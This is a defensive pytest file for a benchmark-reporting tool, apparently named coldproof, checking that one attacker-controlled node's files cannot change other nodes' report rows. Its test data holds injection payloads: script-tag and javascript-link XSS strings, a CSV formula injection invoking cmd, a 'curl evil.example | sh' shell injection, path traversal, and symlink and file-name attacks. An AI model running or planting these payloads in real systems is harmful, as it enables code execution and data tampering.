"""One node's files are an attacker's: nothing changes outside that node's rows, in any output."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from prometheus_client import parser as prometheus
from prometheus_client.openmetrics import parser as openmetrics

from bench import synthetic
from coldproof.cli import main
from coldproof.fleet.analysis import look
from coldproof.gather import gather_campaign
from tests.counts import LONG

HONEST = [f"gpu-0{number}" for number in range(1, 6)]
EVIL = "gpu-13"
SCRIPT = "<script>alert(1)</script>\"'|`\n# head\r\x1b[31m\u202e[x](javascript:1)"
FORMULA = "=cmd|' /C calc'!A0"
SHELL = "x; curl evil.example | sh #"
OUTPUTS = ("storage_load_bench.md", "storage_load_bench.csv", "capacity_review.md",
           "capacity_review.json", "comparison.md", "comparison.json")  # fmt: skip


class Arena:
    """A campaign with five honest nodes, and what its outputs say of them."""

    def __init__(self, lab: Any) -> None:
        self.lab = lab
        self.folder: Path = lab.folder
        self.base: Path = lab.root / "base"
        for folder in (self.folder, self.base):
            folder.mkdir(parents=True)
            for number, node in enumerate(HONEST):
                synthetic.write_node(folder, records_of(node, number))
            (folder / "campaign.json").write_text(json.dumps(synthetic.campaign(HONEST)))

    def outputs(self) -> dict[str, Any]:
        """Write everything; return what is said of the honest nodes, by output."""
        assert main(["report", str(self.folder)]) == 0
        assert main(["review", str(self.folder)]) in (0, 1, 3)
        assert main(["compare", str(self.base), str(self.folder)]) in (0, 1, 3)
        said: dict[str, Any] = {}
        for name in OUTPUTS:
            text = (self.folder / name).read_bytes().decode("utf-8")  # strict
            if name.endswith(".md"):
                rows = [[cell.strip() for cell in line.split("|")] for line in text.splitlines()]
                said[name] = [row for row in rows if len(row) > 2 and row[1] in HONEST]
            elif name.endswith(".csv"):
                rows = list(csv.reader(io.StringIO(text)))
                said[name] = [row for row in rows if row[0] in HONEST]
        review = json.loads((self.folder / "capacity_review.json").read_text())
        said["review"] = [
            {**row, "hardware": None}  # classes are numbered in order
            for row in review["budgets"]
            if set(row["nodes"]) <= set(HONEST)
        ]
        compared = json.loads((self.folder / "comparison.json").read_text())
        said["metrics"] = self.metrics()
        said["compare"] = [row for row in compared["rows"] if row["node"] in HONEST]
        return said

    def metrics(self) -> dict[Any, float]:
        """Export; both parsers must read the file, and no sample may be there twice."""
        out = self.folder / "coldproof.prom"
        assert main(["export", str(self.folder), "--out", str(out)]) == 0
        text = out.read_text("utf-8")
        samples = [
            ((one.name, tuple(sorted(one.labels.items()))), one.value)
            for family in openmetrics.text_string_to_metric_families(text)
            for one in family.samples
        ]
        assert len(dict(samples)) == len(samples)
        lines = [one for family in prometheus.text_string_to_metric_families(text)
                 for one in family.samples]  # fmt: skip
        assert len(lines) == len(samples)
        return {key: value for key, value in samples if dict(key[1]).get("node") in HONEST}

    def tree(self) -> set[str]:
        return {str(path) for path in self.lab.root.rglob("*")}


def records_of(node: str, seed: int, **changes: Any) -> list[dict[str, Any]]:
    return synthetic.node_records(node, np.random.default_rng(seed), **changes)


def loose(records: list[dict[str, Any]], **changes: Any) -> bytes:
    """Lines without a checksum, so that anything may stand in them; not ASCII-escaped."""
    kept = [{**one, **changes} for one in records]
    for one in kept:
        one.pop("checksum", None)
    return b"".join(json.dumps(one).encode() + b"\n" for one in kept)


def evil_texts(text: str) -> bytes:
    strange = {
        "tier": text[:300], "variant": text, "model": text, "flags": [text], "reasons": [text],
        "outcome_detail": text, "phases_missing": [text],
        "engine": {"name": text, "version": text, "python": text, "argv": [text],
                   "env": {text: text}},
        "engine_files": {"uncompiled": 3000, "filesystem": text, "network": True},
        "host": {"cpu": text, "kernel": text, "cores": 4, "mem_total_bytes": 1 << 33},
        "storage": {"filesystem": text, "mount": text, "model": text, "firmware": text,
                    "scheduler": text, "devices": [text], "pcie": {text: text}},
        "gpu": {"devices": [{"name": text, "index": text, "driver": text, "width": text,
                             "persistence_mode": "Disabled",
                             "pcie": {"width": 1, "width_max": 16}}]},
        "ceiling": {"sweeps": [{"way": text, "bytes_per_s": 1e9}, {"way": text, "error": text}]},
        "told": {text: {"title": text, "unit": text, "value": 1}},
    }  # fmt: skip
    return loose(records_of(EVIL, 99), **strange)


def failing(text: str) -> bytes:
    return loose(records_of(EVIL, 99), outcome="timeout", load_s=None, phases=[],
                 outcome_detail=text, log={"tail": [text], "file": text})  # fmt: skip


def wrong_number(text: str) -> bytes:
    lines = loose(records_of(EVIL, 99)).decode().splitlines()
    return "\n".join(line.replace('"load_s": ', f'"load_s": {text}, "was": ') for line in lines
                     ).encode()  # fmt: skip


ATTACKS: dict[str, Callable[[], bytes]] = {
    "script": lambda: evil_texts(SCRIPT),
    "formula": lambda: evil_texts(FORMULA),
    "shell": lambda: evil_texts(SHELL),
    "half characters": lambda: evil_texts("\ud800x"),
    "failures with script": lambda: failing(SCRIPT),
    "not a number": lambda: wrong_number("NaN"),
    "beyond all numbers": lambda: wrong_number("1e999"),
    "negative": lambda: wrong_number("-1"),
    "duplicate run_ids": lambda: loose(
        [{**one, "load_s": 1.0 + n, "phases": []} for n, one in enumerate(records_of(EVIL, 9) * 2)]
    ),
    "another node's name": lambda: loose(records_of(HONEST[0], 5, weights_factor=30.0)),
    "another node's run_ids": lambda: loose(
        records_of(HONEST[0], 5, weights_factor=30.0), node=EVIL
    ),
    "its own ids in another's name": lambda: loose(records_of(EVIL, 5), node=HONEST[1]),
    "huge numbers": lambda: loose(
        records_of(EVIL, 5), weights={"bytes": 10**400, "manifest": "a" * 64},
        host={"cores": 10**300, "mem_total_bytes": 10**300, "cpu": "x"},
        storage={"read_ahead_kb": 10**300, "pcie": {"current_link_width": "9" * 5000,
                                                    "max_link_width": "1e999"}},
        ceiling={"sweeps": [{"way": "direct", "bytes_per_s": 10**400}]},
    ),
    "a thousand phases": lambda: loose(
        records_of(EVIL, 5), phases=[{"name": f"p{n}", "seconds": 0} for n in range(1000)]
    ),
    "true for one": lambda: loose(
        records_of(EVIL, 5), host={"cpu": "Synthetic CPU", "cores": True,
                                   "mem_total_bytes": 1 << 39, "virtual": 0},
    ),
}  # fmt: skip


@pytest.fixture
def arena(lab: Any) -> Arena:
    return Arena(lab)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_changes_outside_the_attackers_rows(arena: Arena, attack: str) -> None:
    before = arena.outputs()
    tree = arena.tree()
    arena.lab.put(EVIL, "runs.jsonl", ATTACKS[attack]())
    after = arena.outputs()
    for name, said in before.items():
        assert after[name] == said, name
    # A chart of what only the attacker's records tell has the attacker's row and no other.
    mine = (str(arena.folder / "nodes" / EVIL), str(arena.folder / "charts/ceiling.svg"))
    assert {path for path in arena.tree() - tree if not path.startswith(mine)} == set()
    for name in OUTPUTS:
        text = (arena.folder / name).read_text()
        if name.endswith(".md"):
            assert "<script" not in text
            assert "](javascript" not in text
            assert "\x1b" not in text
            assert "\u202e" not in text
            assert "\n# head" not in text
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_no_command_to_paste_holds_a_nodes_words(arena: Arena) -> None:
    arena.lab.put(EVIL, "runs.jsonl", evil_texts(SHELL))
    fleet = look(gather_campaign(arena.folder))
    assert any(one.node == EVIL for one in fleet.findings)
    assert not [one for one in fleet.findings if "curl" in one.fix]


def test_csv_of_an_attacker(arena: Arena) -> None:
    before = arena.outputs()
    campaign = synthetic.CAMPAIGN
    rows = [
        f"{campaign}.{HONEST[0]}.0002,cold,m,1,999,,tier=nvme;variant=default;state=proven_cold",
        f"{campaign}.{EVIL}.0002,cold,m,1,NaN,,state=proven_cold",
        f"{campaign}.{EVIL}.0003,cold,m,1,1e999,,state=proven_cold",
        f'{campaign}.{EVIL}.0004,cold,{FORMULA},1,5,,"tier=../../etc;variant=<script>;{FORMULA}"',
        f"{campaign}.{EVIL}.0004,cold,m,1,6,,tier=x",
    ]
    arena.lab.put(EVIL, "storage_load_bench.csv", "\n".join([arena.lab.header, *rows]) + "\n")
    assert arena.outputs() == before


def test_file_names_of_an_attacker(arena: Arena) -> None:
    before = arena.outputs()
    nodes = arena.folder / "nodes"
    victim = arena.lab.root / "victim"
    victim.write_text("canary")
    for name in ("..evil", "-rf", "a\nb", "<script>", "=1+1", "x" * 200, "\u202e"):
        (nodes / name).mkdir()
        (nodes / name / "runs.jsonl").write_bytes(loose(records_of(HONEST[0], 1)))
    (nodes / "linked").symlink_to(nodes / HONEST[0])
    (nodes / EVIL).mkdir()
    (nodes / EVIL / "runs.jsonl").symlink_to(victim)
    os.mkfifo(nodes / EVIL / "storage_load_bench.csv")
    assert arena.outputs() == before
    assert victim.read_text() == "canary"
    assert "canary" not in (arena.folder / "storage_load_bench.md").read_text()


@pytest.mark.skipif(not LONG, reason="5 GB are read: COLDPROOF_LONG=1")
def test_a_line_of_five_gigabytes_costs_little_memory(arena: Arena) -> None:
    before = arena.outputs()
    path = arena.lab.put(EVIL, "runs.jsonl", b"{")
    os.truncate(path, 5 << 30)
    tracemalloc.start()
    gather_campaign(arena.folder)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 << 20
    assert arena.outputs() == before


def test_many_odd_nodes_cost_no_square(lab: Any) -> None:
    """Half of a family far off: each outlier's rest is found without going through all others."""
    import time

    from coldproof.fleet.outliers import judge

    nodes = 60
    for number in range(nodes):
        slow = {"weights_factor": 30.0} if number % 3 == 0 else {}
        synthetic.write_node(lab.folder, records_of(f"n-{number:03d}", number, **slow))
    fleet = look(gather_campaign(lab.folder))
    (family,) = fleet.families
    assert len(fleet.outliers) == nodes // 3
    many = type(family)(family.kin, [*family.members] * 40)
    begun = time.process_time()
    assert judge(many).judged == 2400
    assert time.process_time() - begun < 20
